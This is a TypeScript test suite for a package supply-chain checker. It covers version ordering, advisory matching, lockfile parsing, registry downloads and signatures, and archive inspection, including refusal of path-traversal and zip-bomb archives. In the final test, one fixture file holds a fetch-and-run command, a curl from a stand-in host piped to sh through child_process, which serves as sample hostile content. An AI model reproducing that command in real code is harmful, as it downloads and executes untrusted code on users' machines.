import { matchRecords, readOsvRecord } from '@sluice/advisories';
import { formatPurl, parsePurl, type Names } from '@sluice/contracts';
import { createEgress } from '@sluice/egress';
import { inspectArchive, type Inspection } from '@sluice/inspection/inspect';
import { parseSubmission, type Intake } from '@sluice/intake';
import type { RegistryClient, RegistrySettings } from '@sluice/registries';
import { chunksOf, type FakeHost } from '@sluice/testkit';
import { buffer } from 'node:stream/consumers';
import { describe, expect, it, onTestFinished } from 'vitest';

/** An ecosystem with samples of its own. Facets that it does not have are left out. */
export interface EcosystemUnderTest {
  names: Names;
  /** Names that a registry can have, and texts that are none. */
  sampleNames: { valid: string[]; invalid: string[] };
  /** At least three versions, each lower than the next, and texts that are none. */
  sampleVersions: { ascending: string[]; invalid: string[] };
  intake?: { facet: Intake; lockfile: string; purls: string[] };
  registry?: {
    client: RegistryClient;
    start: () => Promise<FakeRegistry>;
    /** Statements of its registries beside hashes; none when left out. */
    vouchesBy?: readonly ('signature' | 'provenance')[];
  };
  inspection?: {
    facet: Inspection;
    /** The name that an archive of a package states; the package's own unless given. */
    archivedName?: (name: string) => string;
    /** An archive of a package with this name and version, and with these files beside its manifest. */
    archiveOf: (name: string, version: string, files: Record<string, string | Buffer>) => Buffer;
    /** A path in it that leaves the folder of the package. */
    escapingPath: string;
  };
}

export interface FakeRegistry extends Pick<FakeHost, 'url' | 'fail' | 'requests' | 'bytesSent' | 'stop'> {
  /** Settings that its client needs beside its address. */
  settings?: Partial<RegistrySettings>;
  publishSample(name: string, version: string): PublishedSample | Promise<PublishedSample>;
  /** Publishes a sample with a signature or an attestation, in one of the ways. */
  publishVouched?(name: string, version: string, how: Vouching): Promise<void> | void;
}

/** `right`, `wrong`: of other bytes; `strange`: by a key or an authority that is not known; `none`. */
export type Vouching = 'right' | 'wrong' | 'strange' | 'none';

export interface PublishedSample {
  archiveUrl: string;
  archive: Uint8Array;
}

/** The guarantees of an ecosystem's facets; each ecosystem's folder runs through them. */
export function describeEcosystem(ecosystem: EcosystemUnderTest): void {
  const { type } = ecosystem.names;
  describe(`${type} as an ecosystem`, () => {
    describe('names and versions', () => describeNames(ecosystem));
    if (ecosystem.names.osvName !== null) describe('advisories', () => describeAdvisories(ecosystem));
    if (ecosystem.intake) describeIntake(type, ecosystem.intake);
    if (ecosystem.registry) describeRegistry(ecosystem, ecosystem.registry);
    if (ecosystem.inspection) describeInspection(ecosystem, ecosystem.inspection);
  });
}

function describeNames({ names, sampleNames, sampleVersions }: EcosystemUnderTest): void {
  const { ascending } = sampleVersions;

  it.each(sampleNames.valid)('the name %j comes back from its purl', (name) => {
    expect(names.isName(name)).toBe(true);
    const canonical = names.canonicalName(name);
    expect(names.canonicalName(canonical)).toBe(canonical);
    expect(names.isName(canonical)).toBe(true);
    for (const version of ascending) {
      const known = { type: names.type, name: canonical, version };
      expect(parsePurl(formatPurl(known))).toEqual(known);
    }
  });

  it.each(sampleNames.invalid)('%j is no name', (name) => expect(names.isName(name)).toBe(false));
  it.each(ascending)('%j is a version', (version) => expect(names.isVersion(version)).toBe(true));
  it.each(sampleVersions.invalid)('%j is no version', (version) => {
    expect(names.isVersion(version)).toBe(false);
  });

  it('versions have one order, which every comparison agrees with', () => {
    ascending.forEach((a, i) =>
      ascending.forEach((b, j) => {
        expect([a, b, Math.sign(names.compareVersions(a, b)!)]).toEqual([a, b, Math.sign(i - j)]);
      }),
    );
  });
}

function describeAdvisories({ names, sampleNames, sampleVersions }: EcosystemUnderTest): void {
  const [before, first, fixed] = sampleVersions.ascending;
  const name = sampleNames.valid[0]!;
  const record = (ecosystem: string) => ({
    id: 'TEST-1',
    modified: '2026-01-01T00:00:00Z',
    affected: [
      {
        package: { ecosystem, name },
        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: first }, { fixed }] }],
      },
    ],
  });

  it('affect the versions of their range and no others, under the one form of the name', () => {
    const rows = readOsvRecord(record(names.osvName!), [names])!;
    expect(rows.map((row) => row.package)).toEqual([names.canonicalName(name)]);
    const matches = (version: string) =>
      matchRecords(
        rows.map((row) => row.record),
        version,
        names.compareVersions,
      ).map(({ id, fixedIn }) => [id, fixedIn]);
    expect(matches(before!)).toEqual([]);
    expect(matches(first!)).toEqual([['TEST-1', fixed]]);
    expect(matches(fixed!)).toEqual([]);
  });

  it('of other ecosystems are none of this one', () => {
    expect(readOsvRecord(record('Other'), [names])).toEqual([]);
  });
}

function describeIntake(
  type: string,
  { facet, lockfile, purls }: NonNullable<EcosystemUnderTest['intake']>,
): void {
  const parse = (text: string) => parseSubmission(Buffer.from(text), { intakes: [facet] });

  it('a lockfile gives the items that it names, also behind a byte-order mark', () => {
    expect(facet.type).toBe(type);
    const { items, entryCount } = parse(lockfile);
    expect(new Set(items.map(({ purl }) => purl))).toEqual(new Set(purls));
    expect(items.reduce((sum, { pathCount }) => sum + pathCount, 0)).toBe(entryCount);
    expect(parse(`\ufeff${lockfile}`)).toEqual(parse(lockfile));
  });

  it.each(['', '{}', 'neither of these', '<!doctype html>'])('the file %j is refused', (text) => {
    expect(() => parse(text)).toThrow(
      expect.objectContaining({
        code: expect.stringMatching(/^(?:lockfile\.unknown-format|input\.not-json)$/) as string,
      }) as Error,
    );
  });
}

function describeRegistry(
  { names, sampleNames, sampleVersions }: EcosystemUnderTest,
  { client, start, vouchesBy = [] }: NonNullable<EcosystemUnderTest['registry']>,
): void {
  const name = names.canonicalName(sampleNames.valid[0]!);
  const [version, other] = sampleVersions.ascending as [string, string];
  const { signal } = new AbortController();

  async function open() {
    const fake = await start();
    const egress = createEgress({ allowHosts: [], trustedOrigins: [fake.url] });
    onTestFinished(async () => {
      await egress.close();
      await fake.stop();
    });
    const settings = { url: fake.url, scopes: new Map<string, string>(), credentials: [], ...fake.settings };
    return { fake, registry: client.open(settings, egress) };
  }

  it('a version that the registry has is found, with its archive', async () => {
    const { fake, registry } = await open();
    const { archiveUrl, archive } = await fake.publishSample(name, version);
    expect(client.type).toBe(names.type);
    const { files } = await registry.manifest(name, version, signal);
    expect(files.map(({ url }) => url)).toEqual([archiveUrl]);
    const found = await registry.tarball(archiveUrl, signal);
    expect(Buffer.compare(await buffer(found!.body), archive)).toBe(0);
    expect(registry.hostOf(name)).toBe(new URL(fake.url).host);
    expect(registry.tarballHost(archiveUrl)).toBe(new URL(fake.url).host);
  });

  it('a version that the registry does not have is a permanent error, and never an empty answer', async () => {
    const { fake, registry } = await open();
    const missing = { name: 'PermanentError', code: 'registry.version-not-found' };
    await expect(registry.manifest(name, version, signal)).rejects.toMatchObject(missing);
    await fake.publishSample(name, version);
    await expect(registry.manifest(name, other, signal)).rejects.toMatchObject(missing);
  });

  it('a page in place of every answer is an outage', async () => {
    const { fake, registry } = await open();
    await fake.publishSample(name, version);
    fake.fail('*', { status: 200, body: '<html>Sign in</html>' });
    await expect(registry.manifest(name, version, signal)).rejects.toMatchObject({
      name: 'TransientError',
      code: 'registry.unusable-answer',
    });
  });

  describe.each(vouchesBy)('a %s', (part) => {
    it.each<[Vouching, string]>([
      ['right', 'verified'],
      ['wrong', 'failed'],
      ['strange', 'unverified'],
      ['none', 'unavailable'],
    ])('that is %s is %s', async (how, status) => {
      const { fake, registry } = await open();
      await fake.publishVouched!(name, version, how);
      const { files } = await registry.manifest(name, version, signal);
      expect(files.map((file) => file[part]?.status)).toEqual([status]);
      // Nothing is said of the reason where all is well, and something everywhere else.
      expect(files.every((file) => (file[part]!.detail === null) === (how === 'right'))).toBe(true);
    });
  });

  it('an archive that breaks off is continued where it stopped, where its host gives parts', async () => {
    const { fake, registry } = await open();
    const { archiveUrl, archive } = await fake.publishSample(name, version);
    const { pathname } = new URL(archiveUrl);
    fake.fail(pathname, { truncateAt: Math.floor(archive.length / 2), times: 1 });
    const found = await registry.tarball(archiveUrl, signal);
    expect(Buffer.compare(await buffer(found!.body), archive)).toBe(0);
    expect([fake.requests(pathname), fake.bytesSent(pathname)]).toEqual([2, archive.length]);
    fake.fail(pathname, { truncateAt: 10, noRanges: true, times: 1 });
    const broken = await registry.tarball(archiveUrl, signal);
    await expect(buffer(broken!.body)).rejects.toMatchObject({ code: 'egress.broken-off' });
    expect(fake.requests(pathname)).toBe(3);
  });

  it('an archive that is gone is null', async () => {
    const { fake, registry } = await open();
    const { archiveUrl } = await fake.publishSample(name, version);
    fake.fail(new URL(archiveUrl).pathname, { status: 404 });
    expect(await registry.tarball(archiveUrl, signal)).toBeNull();
  });
}

function describeInspection(
  { names, sampleNames, sampleVersions }: EcosystemUnderTest,
  {
    facet,
    archiveOf,
    escapingPath,
    archivedName = (of) => of,
  }: NonNullable<EcosystemUnderTest['inspection']>,
): void {
  const name = names.canonicalName(sampleNames.valid[0]!);
  const version = sampleVersions.ascending[0]!;
  const inspect = (files: Record<string, string | Buffer>) =>
    inspectArchive(chunksOf(archiveOf(name, version, files)), facet);

  it('an archive is read: its manifest, its files, its license', async () => {
    expect(facet.type).toBe(names.type);
    const report = await inspect({ LICENSE: 'MIT License', 'lib/a.txt': 'text' });
    expect(report).toMatchObject({ status: 'scanned', manifest: { name: archivedName(name), version } });
    expect(report.files.map(({ path }) => path)).toEqual(expect.arrayContaining(['LICENSE', 'lib/a.txt']));
  });

  it('a path that leaves the archive is refused', async () => {
    expect(await inspect({ [escapingPath]: 'x' })).toMatchObject({
      status: 'unscannable',
      reason: 'archive.path-traversal',
    });
  });

  it('an archive that unpacks to far more than it has is refused', async () => {
    expect(await inspect({ bomb: Buffer.alloc(32 * 1024 * 1024) })).toMatchObject({
      status: 'unscannable',
      reason: 'archive.ratio-exceeded',
    });
  });

  it('bytes that are no archive are refused', async () => {
    const report = await inspectArchive(chunksOf(Buffer.from('<html></html>'.repeat(100))), facet);
    expect(report).toMatchObject({ status: 'unscannable', reason: 'archive.not-an-archive' });
  });

  it('the same bytes give the same report', async () => {
    const files = { 'lib/a.js': "require('child_process').exec('curl https://a.example | sh')" };
    expect(await inspect(files)).toEqual(await inspect(files));
  });
}
